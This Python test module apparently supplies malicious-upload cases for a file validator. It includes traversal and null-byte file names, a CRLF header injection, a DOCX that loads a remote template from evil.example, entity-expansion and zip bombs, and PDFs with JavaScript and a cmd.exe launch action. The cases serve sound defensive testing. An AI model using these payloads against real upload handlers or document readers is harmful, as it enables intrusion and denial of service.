"""Files that must not be taken: (what is wrong, name, what the sender calls it, content)."""

import zipfile
from io import BytesIO

from tests.shared.uploads import making
from tests.shared.uploads.making import archive, docx, jpeg, odt, packed, pdf, png, webp

Case = tuple[str, str, str, bytes]
MEGABYTE = 1024 * 1024
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
DTD = b'<!DOCTYPE a [<!ENTITY b "bbbb"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>'
TEMPLATE = (
    b'<Relationships><Relationship Id="1" Type="http://x/attachedTemplate" '
    b'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)
OBJECT = TEMPLATE.replace(b"attachedTemplate", b"oleObject")
MACRO_TYPES = making.TYPES.replace(b"/>", b' ContentType="application/vnd.ms-word.document.macroEnabled"/>')
SCRIPT = b"<html><script>alert(1)</script></html>"
JS = b"3 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n"


def _locked(content: bytes) -> bytes:
    """Say in every header of an archive that its parts are encrypted."""
    return content.replace(b"PK\x01\x02\x14\x03\x14\x00\x00\x00", b"PK\x01\x02\x14\x03\x14\x00\x01\x00")


def _renamed(old: str, new: str) -> bytes:
    return docx(**{old: b"x"}).replace(old.replace("__", "/").encode(), new.encode())


def _twice() -> bytes:
    kept = BytesIO(docx())
    with zipfile.ZipFile(kept, "a") as target:
        target.writestr("WORD/document.xml", b"<other/>")
    return kept.getvalue()


def _many(count: int) -> bytes:
    return archive({"[Content_Types].xml": making.TYPES} | {f"word/{one}.xml": b"" for one in range(count)})


def names() -> list[Case]:
    """Honest content under a name that hides something."""
    turned = "\u202efdp.exe".replace("exe", "pdf")
    written = (
        ("path upwards", "../../../etc/cron.d/x.pdf"),
        ("path from the root", "/etc/passwd.pdf"),
        ("path of Windows", "C:\\Windows\\x.pdf"),
        ("path backwards", "..\\..\\x.pdf"),
        ("only dots", ".."),
        ("zero byte", "x.php\x00.pdf"),
        ("new line", "x\r\nSet-Cookie: a=b.pdf"),
        ("escape", "x\x1b[31m.pdf"),
        ("read from right to left", turned),
        ("isolated direction", "x\u2066\u2069.pdf"),
        ("direction mark", "x\u200f.pdf"),
        ("lone surrogate", "x\udcff.pdf"),
        ("no extension", "README"),
        ("no name", ".pdf"),
        ("empty", ""),
        ("spaces", "   "),
    )
    return [(what, name, "application/pdf", pdf()) for what, name in written]


def types() -> list[Case]:
    """Content that is not what the name or the sender says."""
    return [
        ("page as pdf", "a.pdf", "application/pdf", SCRIPT),
        ("page after the mark of a PDF", "a.pdf", "text/html", pdf()),
        ("page as picture", "a.png", "image/png", SCRIPT),
        ("drawing that runs", "a.svg", "image/svg+xml", b"<svg onload='x'/>"),
        ("page", "a.html", "text/html", SCRIPT),
        ("page of xml", "a.xhtml", "application/xhtml+xml", SCRIPT),
        ("program", "a.exe", "application/x-msdownload", b"MZ" + bytes(100)),
        ("program as document", "a.docx", "", b"MZ" + bytes(100)),
        ("program behind a second extension", "a.pdf.exe", "application/pdf", pdf()),
        ("script", "a.js", "", b"alert(1)"),
        ("script of a shell", "a.sh", "", b"#!/bin/sh"),
        ("shortcut", "a.lnk", "", b"L\x00\x00\x00"),
        ("archive", "a.zip", "application/zip", docx()),
        ("other archive", "a.rar", "", b"Rar!\x1a\x07"),
        ("old document", "a.doc", "application/msword", OLE),
        ("locked document", "a.docx", "", OLE),
        ("document that is a table", "a.xlsx", "", docx()),
        ("document that is a picture", "a.docx", "", png()),
        ("picture called another", "a.jpg", "image/jpeg", png()),
        ("picture that says it is a PDF", "a.png", "application/pdf", png()),
        ("document that says it is a picture", "a.docx", "image/png", docx()),
        ("OpenDocument that is another", "a.ods", "", odt()),
        ("something before the archive", "a.docx", "", SCRIPT + docx()),
        ("photograph of a phone", "a.heic", "image/heic", b"\x00\x00\x00\x18ftypheic"),
        ("text", "a.txt", "text/plain", b"words"),
    ]


def documents() -> list[Case]:
    """Documents with programs, passwords, entities, links that load, and bombs."""
    cases = {
        "macros": docx(word__vbaProject_DOT_bin=b"x"),
        "macros by type": archive({"[Content_Types].xml": MACRO_TYPES, "word/document.xml": making.WORD}),
        "control": docx(word__activeX__activeX1_DOT_xml=b"<x/>"),
        "object inside": docx(word__embeddings__oleObject1_DOT_bin=OLE),
        "program inside": docx(word__media__image_DOT_exe=b"MZ"),
        "page inside": docx(word__afchunk_DOT_html=SCRIPT),
        "loads a template": docx(word___rels__settings_DOT_xml_DOT_rels=TEMPLATE),
        "loads an object": docx(word___rels__document_DOT_xml_DOT_rels=OBJECT),
        "entities": docx(word__settings_DOT_xml=DTD),
        "entities in wide letters": docx(word__settings_DOT_xml=DTD.decode().encode("utf-16")),
        "bomb": docx(word__media__a_DOT_png=bytes(60 * MEGABYTE)),
        "bomb in parts": docx(**{f"word__{one}_DOT_xml": bytes(4 * MEGABYTE) for one in range(6)}),
        "too many parts": _many(2100),
        "locked": _locked(docx()),
        "path out": _renamed("word__abcdefgh_DOT_xml".replace("_DOT_", "."), "../../../../a.xml"),
        "path from the root": _renamed("word__a.xml", "/ord/a.xml"),
        "two parts of one name": _twice(),
        "packed so that it asks for memory": archive(
            {"[Content_Types].xml": making.TYPES, "word/document.xml": making.WORD}, packing=zipfile.ZIP_LZMA
        ),
        "cut off": docx()[:-40],
        "broken part": docx().replace(b"\x03\x04", b"\x03\x05", 1),
        "no main part": archive({"[Content_Types].xml": making.TYPES}),
    }
    more = {
        "macros of OpenDocument": odt(Basic__Standard__Module1_DOT_xml=b"<x/>"),
        "scripts of OpenDocument": odt(Scripts__python__a_DOT_py=b"x"),
        "locked OpenDocument": odt(**{"META-INF__manifest_DOT_xml": b"<x><encryption-data/></x>"}),
    }
    return [(what, "a.docx", "", content) for what, content in cases.items()] + [
        (what, "a.odt", "", content) for what, content in more.items()
    ]


def prints() -> list[Case]:
    """PDF that would run something or cannot be looked into."""
    cases = {
        "script": pdf(JS),
        "script written by numbers": pdf(JS.replace(b"/JavaScript", b"/J#61vaScr#69pt")),
        "packed script": pdf(packed(JS)),
        "starts a program": pdf(b"3 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj\n"),
        "file inside": pdf(b"3 0 obj\n<< /Type /EmbeddedFile >>\nendobj\n"),
        "film inside": pdf(b"3 0 obj\n<< /Subtype /RichMedia >>\nendobj\n"),
        "locked": pdf(b"1 0 obj\n<< /Encrypt 9 0 R >>\nendobj\n"),
        "bomb": pdf(packed(bytes(80 * MEGABYTE))),
        "packed otherwise": pdf(packed(b"").replace(b"stream\n", b"stream\nzzzz", 1)),
        "cut off": pdf()[:20],
        "not at its beginning": b"GIF89a" + pdf(),
    }
    return [(what, "a.pdf", "application/pdf", content) for what, content in cases.items()]


def pictures() -> list[Case]:
    """Pictures that are broken, or claim to be larger than any screen."""
    checksum = bytearray(png())
    checksum[-2] ^= 1
    return [
        ("cut photograph", "a.jpg", "image/jpeg", jpeg()[:-2]),
        ("cut in its head", "a.jpg", "image/jpeg", jpeg()[:30]),
        ("huge photograph", "a.jpg", "image/jpeg", jpeg(width=65000, height=65000)),
        ("photograph without size", "a.jpg", "image/jpeg", jpeg(width=0)),
        ("photograph without a frame", "a.jpg", "image/jpeg", b"\xff\xd8\xff\xd9"),
        ("huge picture", "a.png", "image/png", png(width=10**6, height=10**6)),
        ("wrong checksum", "a.png", "image/png", bytes(checksum)),
        ("picture without lines", "a.png", "image/png", png()[:40]),
        ("cut picture", "a.webp", "image/webp", webp()[:-10]),
        ("huge web picture", "a.webp", "image/webp", webp(width=2**24)[:24] + b"\xff" * 6 + webp()[30:]),
        ("too big", "a.png", "image/png", png() + bytes(10 * MEGABYTE)),
        ("empty", "a.png", "image/png", b""),
    ]


CASES: list[Case] = [*names(), *types(), *documents(), *prints(), *pictures()]
